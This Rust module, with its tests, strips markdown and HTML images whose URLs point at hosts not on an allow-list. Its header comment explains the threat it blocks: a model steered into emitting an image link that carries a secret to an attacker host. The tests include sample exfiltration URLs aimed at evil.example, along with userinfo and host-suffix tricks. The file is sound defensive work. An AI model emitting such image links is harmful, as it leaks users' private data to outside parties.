//! Removal of markdown / HTML images that point at hosts that are not allowed.
//!
//! A model that can be steered into writing `![](https://attacker/p?d=<secret>)` leaks data the
//! moment the answer is rendered, without a click. Stripping every image whose host is not on an
//! allow-list closes that channel.

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;
use url::Url;

static REF_DEF: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?m)^ {0,3}\[([^\]\n]{1,999})\]:[ \t]*<?([^\s>]+)>?").ok());
static HTML_IMG: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?i)<img\b[^>]*>").ok());
static HTML_SRC: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?-u:\b)src\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']+))"#).ok()
});
static HTML_SRCSET: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)(?-u:\b)srcset\s*=").ok());

#[cfg(test)]
pub(crate) fn all_patterns_compiled() -> bool {
    REF_DEF.is_some() && HTML_IMG.is_some() && HTML_SRC.is_some() && HTML_SRCSET.is_some()
}

/// True when `url` is an absolute http(s) URL whose host is in `allowed_hosts`. An entry
/// `*.example.com` allows every subdomain of `example.com` (not `example.com` itself).
fn host_allowed(url: &str, allowed_hosts: &[&str]) -> bool {
    let Ok(parsed) = Url::parse(url.trim()) else {
        return false;
    };
    if !matches!(parsed.scheme(), "http" | "https") {
        return false;
    }
    let Some(host) = parsed.host_str() else {
        return false;
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    allowed_hosts.iter().any(|entry| {
        let entry = entry.trim().trim_end_matches('.').to_ascii_lowercase();
        match entry.strip_prefix("*.") {
            Some(base) => host.len() > base.len() + 1 && host.ends_with(&format!(".{base}")),
            None => host == entry,
        }
    })
}

fn normalize_label(label: &str) -> String {
    label
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .to_lowercase()
}

/// Matching closing positions for `open`/`close` pairs, ignoring backslash-escaped bytes.
fn match_pairs(bytes: &[u8], open: u8, close: u8) -> HashMap<usize, usize> {
    let mut pairs = HashMap::new();
    let mut stack = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if b == b'\\' {
            i += 2;
            continue;
        }
        if b == open {
            stack.push(i);
        } else if b == close
            && let Some(o) = stack.pop()
        {
            pairs.insert(o, i);
        }
        i += 1;
    }
    pairs
}

fn escaped(bytes: &[u8], i: usize) -> bool {
    let mut n = 0;
    let mut j = i;
    while j > 0 && bytes[j - 1] == b'\\' {
        n += 1;
        j -= 1;
    }
    n % 2 == 1
}

/// The destination of an inline link: the text between the parentheses without the title.
fn inline_destination(inner: &str) -> &str {
    let inner = inner.trim_start();
    if let Some(rest) = inner.strip_prefix('<') {
        return rest.split('>').next().unwrap_or_default();
    }
    inner.split_whitespace().next().unwrap_or_default()
}

/// Removes every markdown image (`![alt](url)`, `![alt][ref]`, `![ref]`) and HTML `<img>` whose
/// URL is not an absolute http(s) URL on one of `allowed_hosts` (exact host, or `*.domain` for
/// subdomains). Relative, protocol-relative and non-http URLs are removed too. Everything else
/// is left byte-for-byte unchanged. Images inside code spans are removed as well (conservative).
pub fn strip_untrusted_images(markdown: &str, allowed_hosts: &[&str]) -> String {
    strip_counted(markdown, allowed_hosts).0
}

/// [`strip_untrusted_images`] plus the number of images removed (for guardrail events).
pub(crate) fn strip_counted(markdown: &str, allowed_hosts: &[&str]) -> (String, usize) {
    let bytes = markdown.as_bytes();
    let brackets = match_pairs(bytes, b'[', b']');
    let parens = match_pairs(bytes, b'(', b')');
    let mut defs: HashMap<String, String> = HashMap::new();
    if let Some(re) = REF_DEF.as_ref() {
        for c in re.captures_iter(markdown) {
            if let (Some(label), Some(url)) = (c.get(1), c.get(2)) {
                defs.entry(normalize_label(label.as_str()))
                    .or_insert_with(|| url.as_str().to_owned());
            }
        }
    }

    let mut removals: Vec<(usize, usize)> = Vec::new();
    let mut i = 0;
    while i + 1 < bytes.len() {
        if bytes[i] != b'!' || bytes[i + 1] != b'[' || escaped(bytes, i) {
            i += 1;
            continue;
        }
        let Some(&alt_end) = brackets.get(&(i + 1)) else {
            i += 1;
            continue;
        };
        let alt = markdown.get(i + 2..alt_end).unwrap_or_default();
        let after = alt_end + 1;
        let mut handled = None;
        match bytes.get(after) {
            Some(b'(') => {
                if let Some(&close) = parens.get(&after) {
                    let inner = markdown.get(after + 1..close).unwrap_or_default();
                    let dest = inline_destination(inner);
                    handled = Some((close + 1, !host_allowed(dest, allowed_hosts)));
                }
            }
            Some(b'[') => {
                if let Some(&close) = brackets.get(&after) {
                    let label = markdown.get(after + 1..close).unwrap_or_default();
                    let label = if label.trim().is_empty() { alt } else { label };
                    if let Some(url) = defs.get(&normalize_label(label)) {
                        handled = Some((close + 1, !host_allowed(url, allowed_hosts)));
                    }
                }
            }
            _ => {}
        }
        if handled.is_none()
            && let Some(url) = defs.get(&normalize_label(alt))
        {
            handled = Some((after, !host_allowed(url, allowed_hosts)));
        }
        match handled {
            Some((end, remove)) => {
                if remove {
                    removals.push((i, end));
                }
                i = end;
            }
            None => i += 1,
        }
    }

    if let (Some(img), Some(src), Some(srcset)) =
        (HTML_IMG.as_ref(), HTML_SRC.as_ref(), HTML_SRCSET.as_ref())
    {
        for m in img.find_iter(markdown) {
            if removals.iter().any(|&(s, e)| m.start() < e && s < m.end()) {
                continue;
            }
            let tag = m.as_str();
            let url = src
                .captures(tag)
                .and_then(|c| c.get(1).or(c.get(2)).or(c.get(3)));
            let ok = !srcset.is_match(tag)
                && url.is_some_and(|u| host_allowed(u.as_str(), allowed_hosts));
            if !ok {
                removals.push((m.start(), m.end()));
            }
        }
    }

    if removals.is_empty() {
        return (markdown.to_owned(), 0);
    }
    removals.sort_unstable();
    let mut out = String::with_capacity(markdown.len());
    let mut pos = 0;
    let mut removed = 0;
    for (s, e) in removals {
        if s < pos {
            pos = pos.max(e);
            continue;
        }
        out.push_str(markdown.get(pos..s).unwrap_or_default());
        pos = e;
        removed += 1;
    }
    out.push_str(markdown.get(pos..).unwrap_or_default());
    (out, removed)
}

#[cfg(test)]
mod tests {
    use super::*;

    const ALLOWED: &[&str] = &["cdn.agentry.dev", "*.githubusercontent.com"];

    #[test]
    fn patterns_compile() {
        assert!(all_patterns_compiled());
    }

    #[test]
    fn strips_untrusted_inline_images() {
        let md = "Hi ![x](https://evil.example/p?d=secret) there";
        assert_eq!(strip_untrusted_images(md, ALLOWED), "Hi  there");
        let md = "![logo](https://cdn.agentry.dev/logo.png \"Logo\")";
        assert_eq!(strip_untrusted_images(md, ALLOWED), md);
        let md = "![a](https://raw.githubusercontent.com/o/r/x.png)";
        assert_eq!(strip_untrusted_images(md, ALLOWED), md);
    }

    #[test]
    fn tricky_forms() {
        // Nested brackets in alt text, angle-bracket destination, parens in the URL.
        let md = "a ![x [y] z](<https://evil.example/a b>) b";
        assert_eq!(strip_untrusted_images(md, ALLOWED), "a  b");
        let md = "![p](https://evil.example/a_(b)?q=1)!";
        assert_eq!(strip_untrusted_images(md, ALLOWED), "!");
        // Userinfo trick: the host is evil.example.
        let md = "![p](https://cdn.agentry.dev@evil.example/x)";
        assert_eq!(strip_untrusted_images(md, ALLOWED), "");
        // Suffix trick.
        let md = "![p](https://cdn.agentry.dev.evil.example/x)";
        assert_eq!(strip_untrusted_images(md, ALLOWED), "");
        // Relative, protocol-relative, data: all removed.
        for md in [
            "![p](/api/x)",
            "![p](//evil.example/x)",
            "![p](data:image/png;base64,AA)",
        ] {
            assert_eq!(strip_untrusted_images(md, ALLOWED), "", "{md}");
        }
        // Reference-style images.
        let md = "see ![p][r] and ![q]\n\n[r]: https://evil.example/x?d=1\n[q]: https://cdn.agentry.dev/q.png\n";
        assert_eq!(
            strip_untrusted_images(md, ALLOWED),
            "see  and ![q]\n\n[r]: https://evil.example/x?d=1\n[q]: https://cdn.agentry.dev/q.png\n"
        );
        // HTML images.
        let md = "x <img src=\"https://evil.example/p?d=1\"> <IMG SRC='https://cdn.agentry.dev/a.png'> y";
        assert_eq!(
            strip_untrusted_images(md, ALLOWED),
            "x  <IMG SRC='https://cdn.agentry.dev/a.png'> y"
        );
    }

    #[test]
    fn leaves_links_and_escapes() {
        let md = "[a link](https://evil.example/) and \\![not](https://evil.example/) and ! [x]";
        assert_eq!(strip_untrusted_images(md, ALLOWED), md);
        assert_eq!(strip_untrusted_images("", ALLOWED), "");
        assert_eq!(
            strip_untrusted_images("![unclosed](", ALLOWED),
            "![unclosed]("
        );
    }
}
